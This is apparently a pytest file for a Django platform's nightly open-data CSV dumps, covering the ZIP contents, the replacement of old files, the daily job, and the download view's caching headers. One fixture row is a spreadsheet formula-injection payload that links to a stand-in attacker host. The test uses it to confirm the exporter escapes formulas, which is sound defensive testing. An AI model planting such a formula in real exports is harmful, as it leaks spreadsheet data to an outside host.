"""The nightly open-data dumps (opendata/dumps.py, tasks.py): ZIPs of CSV files per organisation
and dataset, the daily job that queues them, and the download view."""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from django.core.files.storage import default_storage
from django.core.management import call_command
from django.test import Client, TestCase
from django.utils.http import http_date

from delaktig.core import contributions
from delaktig.core.contributions import Contribution, DumpTable, OpenDataset
from delaktig.core.jobs import run_jobs
from delaktig.opendata.catalogue import catalogue_entries, catalogue_invalidate
from delaktig.opendata.dumps import DumpFailed, dumps_for, dumps_make
from delaktig.opendata.models import Dump
from delaktig.organisations.models import OpenDataLicence, Organisation, OrganisationSettings
from tests.factories import OrganisationFactory

pytestmark = pytest.mark.django_db

NOW = datetime(2026, 3, 2, 2, 30, tzinfo=UTC)
CHANGED = datetime(2026, 2, 27, 14, 0, tzinfo=UTC)
KEY = "testdata.decisions"
COLUMNS = ("id", "title", "decided", "tags")

# What the test dataset holds, per organisation slug.
ROWS: dict[str, list[dict[str, Any]]] = {}


def _rows(organisation: Organisation) -> Iterator[dict[str, Any]]:
    yield from ROWS.get(organisation.slug, [])


def _modified(organisation: Organisation) -> datetime | None:
    return CHANGED if ROWS.get(organisation.slug) else None


def _coverage(organisation: Organisation) -> tuple[date | None, date | None]:
    days = [row["decided"] for row in ROWS.get(organisation.slug, [])]
    return (min(days), max(days)) if days else (None, None)


DATASET = OpenDataset(
    key=KEY,
    title="Beslut",
    description="Beslutade förslag.",
    api_path="/api/v1/decisions/",
    tables=(DumpTable(name="beslut.csv", columns=COLUMNS, rows=_rows),),
    coverage=_coverage,
    modified=_modified,
    themes=("GOVE", "SOCI"),
    keywords=("beslut", "förslag"),
)


@pytest.fixture
def dataset(monkeypatch: pytest.MonkeyPatch, settings: Any) -> Iterator[OpenDataset]:
    """The test dataset in the registry (alone: the apps' own datasets are left out, their
    jobs and links kept), and an empty storage and catalogue cache."""
    registry = {
        label: replace(contribution, datasets=())
        for label, contribution in contributions._contributions.items()
    }
    registry["testdata"] = Contribution(app_label="testdata", datasets=(DATASET,))
    monkeypatch.setattr(contributions, "_contributions", registry)
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {"BACKEND": "django.core.files.storage.InMemoryStorage"},
    }
    ROWS.clear()
    catalogue_invalidate()
    yield DATASET
    ROWS.clear()
    catalogue_invalidate()


def make(now: datetime = NOW) -> int:
    """``dumps_make`` as the worker runs it: the deletion of a replaced file, which waits for
    the commit, happens (the test's own transaction never commits)."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        return dumps_make(now=now)


def organisation_with(slug: str, rows: list[dict[str, Any]], **settings: Any) -> Organisation:
    organisation = OrganisationFactory(slug=slug, name=f"Region {slug.title()}")
    if settings:
        OrganisationSettings.objects.create(organisation=organisation, **settings)
    ROWS[slug] = rows
    return organisation


def decision(pk: int, title: str, **extra: Any) -> dict[str, Any]:
    return {"id": pk, "title": title, "decided": date(2026, 1, pk), "tags": [], **extra}


def read_zip(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def stored(dump: Dump) -> bytes:
    with default_storage.open(dump.file.name, "rb") as handle:
        return bytes(handle.read())


def test_a_dump_is_a_zip_of_the_tables_as_csv_with_a_readme_and_licence(
    dataset: OpenDataset,
) -> None:
    organisation = organisation_with(
        "norr",
        [
            decision(1, "Cykelbana längs Storgatan i Östersund", tags=["trafik", "miljö"]),
            decision(2, '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'),
            decision(3, "-5"),
        ],
        open_data_licence=OpenDataLicence.CC0,
    )
    assert make() == 1
    dump = Dump.objects.get(organisation=organisation, dataset=KEY)
    files = read_zip(stored(dump))
    assert sorted(files) == ["LICENS.txt", "README.txt", "beslut.csv"]
    raw = files["beslut.csv"]
    # UTF-8 with a byte-order mark, as the platform's other CSV exports, so Excel reads åäö.
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(COLUMNS)
    assert rows[1] == [
        "1",
        "Cykelbana längs Storgatan i Östersund",
        "2026-01-01",
        '["trafik", "miljö"]',
    ]
    # A formula is written as text (the OWASP apostrophe); a plain number stays a number.
    assert rows[2][1] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
    assert rows[3][1] == "-5"
    assert len(rows) == 4
    assert dump.rows == {"beslut.csv": 3}
    assert dump.made_at == NOW
    assert dump.file.name == f"oppna-data/norr/{KEY}-20260302T023000Z.zip"
    readme = files["README.txt"].decode()
    assert "Region Norr" in readme and "Beslut" in readme
    assert "/api/v1/decisions/?organisation=norr" in readme
    assert "2026-03-02T02:30:00+00:00" in readme and "beslut.csv: 3" in readme
    licence = files["LICENS.txt"].decode()
    assert "http://creativecommons.org/publicdomain/zero/1.0/" in licence
    content = stored(dump)
    assert dump.size == len(content)
    assert dump.sha256 == hashlib.sha256(content).hexdigest()


def test_a_second_run_replaces_the_file_and_the_row(dataset: OpenDataset) -> None:
    organisation = organisation_with("norr", [decision(1, "Första")])
    make()
    first = Dump.objects.get()
    ROWS["norr"].append(decision(2, "Andra"))
    assert make(NOW + timedelta(days=1)) == 1
    second = Dump.objects.get()
    assert second.pk == first.pk and second.organisation == organisation
    assert second.made_at == NOW + timedelta(days=1)
    assert second.file.name != first.file.name
    assert not default_storage.exists(first.file.name)
    assert default_storage.exists(second.file.name)
    assert second.rows == {"beslut.csv": 2}
    # Idempotent: the same run again makes the same dump afresh.
    make(NOW + timedelta(days=1))
    assert Dump.objects.count() == 1 and default_storage.exists(Dump.objects.get().file.name)


def test_only_organisations_with_data_get_a_dump_and_one_without_data_loses_it(
    dataset: OpenDataset,
) -> None:
    organisation_with("norr", [decision(1, "Första")])
    organisation_with("syd", [])
    assert make() == 1
    dump = Dump.objects.get()
    assert dump.organisation.slug == "norr"
    # The data is no longer public (all of it unpublished): the download goes too.
    ROWS["norr"] = []
    assert make(NOW + timedelta(days=1)) == 0
    assert not Dump.objects.exists()
    assert not default_storage.exists(dump.file.name)


def test_a_dump_of_a_dataset_no_longer_registered_is_removed(dataset: OpenDataset) -> None:
    organisation = organisation_with("norr", [decision(1, "Första")])
    make()
    Dump.objects.create(
        organisation=organisation,
        dataset="gone.dataset",
        file="oppna-data/norr/gone.zip",
        size=1,
        sha256="0" * 64,
        made_at=NOW,
    )
    make()
    assert list(Dump.objects.values_list("dataset", flat=True)) == [KEY]
    assert [dump.dataset for dump in dumps_for(organisation)] == [KEY]


def test_rows_are_streamed_not_listed(
    dataset: OpenDataset, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The table's rows are read one at a time as they are written."""
    organisation_with("norr", [])
    written: list[int] = []

    def rows(organisation: Organisation) -> Iterator[dict[str, Any]]:
        for pk in range(1, 4):
            written.append(pk)
            yield decision(pk, "Rad")

    table = DumpTable(name="beslut.csv", columns=COLUMNS, rows=rows)
    streamed = replace(DATASET, tables=(table,), modified=lambda o: NOW)
    monkeypatch.setitem(
        contributions._contributions,
        "testdata",
        Contribution(app_label="testdata", datasets=(streamed,)),
    )
    assert make() == 1
    assert written == [1, 2, 3]
    assert Dump.objects.get().rows == {"beslut.csv": 3}


def test_a_broken_dataset_does_not_stop_the_others(
    dataset: OpenDataset, monkeypatch: pytest.MonkeyPatch
) -> None:
    organisation_with("norr", [decision(1, "Första")])

    def broken(organisation: Organisation) -> Iterator[dict[str, Any]]:
        raise RuntimeError("the table is gone")
        yield {}

    table = DumpTable(name="trasig.csv", columns=("id",), rows=broken)
    bad = replace(DATASET, key="testdata.broken", tables=(table,))
    monkeypatch.setitem(
        contributions._contributions,
        "testdata",
        Contribution(app_label="testdata", datasets=(DATASET, bad)),
    )
    with pytest.raises(DumpFailed, match="norr/testdata.broken"):
        make()
    assert list(Dump.objects.values_list("dataset", flat=True)) == [KEY]
    current = Dump.objects.get().file.name.split("/")[-1]
    assert default_storage.listdir("oppna-data/norr")[1] == [current]


def test_the_daily_job_queues_the_task_which_makes_the_dumps(dataset: OpenDataset) -> None:
    organisation_with("norr", [decision(1, "Första")])
    outcome = {o.key: o for o in run_jobs(now=NOW, only="opendata.dumps")}["opendata.dumps"]
    assert outcome.ran and outcome.error == "" and outcome.result == 1
    # The test settings run tasks in-process: the dump is there.
    dump = Dump.objects.get()
    assert dump.rows == {"beslut.csv": 1}
    job = next(job for job in contributions.jobs() if job.key == "opendata.dumps")
    assert job.every == "day"


def test_the_job_is_declared_by_the_open_data_app() -> None:
    declared = {job.key: job for job in contributions.jobs()}
    assert declared["opendata.dumps"].every == "day"


# --- The download ---------------------------------------------------------------------------


def test_the_download_serves_the_current_file_with_etag_and_last_modified(
    dataset: OpenDataset, client: Client
) -> None:
    organisation_with("norr", [decision(1, "Första")])
    make()
    dump = Dump.objects.get()
    url = f"/oppna-data/norr/{KEY}.zip"
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"] == f'attachment; filename="norr-{KEY}.zip"'
    assert response["ETag"] == f'"{dump.sha256}"'
    assert response["Last-Modified"] == http_date(NOW.timestamp())
    content = b"".join(response.streaming_content)
    assert content == stored(dump)
    assert "beslut.csv" in read_zip(content)
    again = client.get(url, headers={"If-None-Match": response["ETag"]})
    assert again.status_code == 304 and again["ETag"] == response["ETag"]
    since = client.get(url, headers={"If-Modified-Since": response["Last-Modified"]})
    assert since.status_code == 304
    assert client.head(url).status_code == 200
    assert client.post(url).status_code == 405


def test_the_download_is_404_without_a_dump_or_for_an_unknown_dataset(
    dataset: OpenDataset, client: Client
) -> None:
    organisation_with("norr", [decision(1, "Första")])
    assert client.get(f"/oppna-data/norr/{KEY}.zip").status_code == 404
    make()
    assert client.get(f"/oppna-data/norr/{KEY}.zip").status_code == 200
    assert client.get("/oppna-data/norr/testdata.unknown.zip").status_code == 404
    assert client.get(f"/oppna-data/syd/{KEY}.zip").status_code == 404
    # A row whose file went missing from the storage is a 404, not a server error.
    default_storage.delete(Dump.objects.get().file.name)
    assert client.get(f"/oppna-data/norr/{KEY}.zip").status_code == 404


# --- The datasets the apps declare ----------------------------------------------------------


def test_every_registered_dataset_can_be_dumped(client: Client) -> None:
    """Whatever the apps declare: every dataset's tables are well formed, and a dump of an
    organisation without data is none, and makes no error."""
    catalogue_invalidate()
    OrganisationFactory(slug="tom")
    for declared in contributions.datasets():
        assert declared.api_path.startswith("/api/v1/"), declared.key
        assert declared.tables, declared.key
        names = [table.name for table in declared.tables]
        assert len(set(names)) == len(names) and all(n.endswith(".csv") for n in names)
        for table in declared.tables:
            assert table.columns and len(set(table.columns)) == len(table.columns), table.name
    assert make() >= 0


def test_the_demo_region_dumps_every_declared_dataset_as_declared(client: Client) -> None:
    """The apps' real datasets on the demo region: every dataset with data gets a ZIP whose
    CSV files have the declared columns, and the catalogue lists each of them."""
    call_command("load_demo", stdout=io.StringIO())
    catalogue_invalidate()
    entries = catalogue_entries()
    assert entries, "the demo region publishes no open data"
    assert make() == len(entries)
    declared = {dataset.key: dataset for dataset in contributions.datasets()}
    for dump in Dump.objects.select_related("organisation"):
        files = read_zip(stored(dump))
        for table in declared[dump.dataset].tables:
            text = files[table.name].decode("utf-8-sig")
            rows = list(csv.reader(io.StringIO(text, newline="")))
            assert tuple(rows[0]) == table.columns, (dump.dataset, table.name)
            assert len(rows) - 1 == dump.rows[table.name]
        assert {"README.txt", "LICENS.txt"} <= set(files)
    response = client.get("/oppna-data/katalog.ttl")
    for entry in entries:
        assert entry.anchor.encode() in response.content
